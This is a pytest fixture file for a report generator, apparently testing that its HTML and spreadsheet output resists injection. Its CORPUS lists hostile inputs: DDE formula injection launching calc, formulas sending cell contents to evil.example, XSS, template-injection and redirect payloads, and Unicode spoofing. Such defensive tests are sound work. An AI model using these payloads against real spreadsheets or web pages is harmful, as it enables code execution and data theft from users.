"""A small list, and strings that people have used to attack those who open lists."""

import os
import shutil

import pytest

from hvc_ml.report.book import write_book
from hvc_ml.report.workbook import About
from made.listed import listed_rows, scores_of
from made.opened import Reader, pounds

BROWSERS = ("chromium", "chromium-browser", "google-chrome")

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\uff5ccalc",
    "harmless\r=1+1",
    "harmless\n=1+1",
    'quoted","=1+1',
    "'=1+1",
    '"=1+1"',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><iframe src=//evil.example>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:'About'!A1",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "&lt;script&gt;",
    "{=1+1}",
    "007",
    "1e5",
    "_x0041_",
    "[/b]",
    "\x1b[31mred",
    "é\u202egpj.exe",
    "$\\frac{1}{0}$",
    "<svg onload=alert(1)>",
    "<!--",
    "]]>",
    "</script><script>alert(1)</script>",
    "</script\t><img src=x onerror=alert(1)>",
    "<script type=application/json>",
    "\\u003cimg src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>call</a>",
    "<style>*{display:none}</style>",
    "</title><base href=//evil.example/>",
    "<dialog open>",
    "&#60;b&#62;",
    "line\u2028separator",
    "__proto__",
    "' autofocus onfocus=alert(1) x='",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
]


@pytest.fixture
def plan():
    return listed_rows([f"C{i:03d}" for i in range(40)])


@pytest.fixture
def hostile():
    """Every string of the corpus in every text column that a source or a configuration can reach."""
    plan = listed_rows(CORPUS)
    for column in ("tier", "action", "reason_1", "reason_2", "model_version", "owner", "channel", "talking_points"):
        plan[column] = CORPUS
    return plan


@pytest.fixture
def corpus():
    return CORPUS


@pytest.fixture
def about():
    return About("Blue Shop", "2026-01-01", "3", "GBP", 90, {"Value captured in the top 20 %": "77 %"})


@pytest.fixture
def scores(plan):
    return scores_of(plan)


@pytest.fixture(scope="session")
def chromium():
    """A browser, or a skip that says what is missing."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
    found = os.environ.get("HVC_CHROMIUM") or next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip("no Chromium on this machine")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=found, args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


@pytest.fixture
def opened(chromium, tmp_path):
    """Opens a book; at the end nothing was asked for but the file, and nothing was complained of."""
    readers = []

    def open_book(made, **looks):
        path = tmp_path / "book.html"
        write_book(made, path, money=pounds)
        readers.append(Reader(chromium, path, **looks))
        return readers[-1]

    yield open_book
    for reader in readers:
        assert reader.asked == [reader.url]
        assert reader.complaints == []
        reader.context.close()
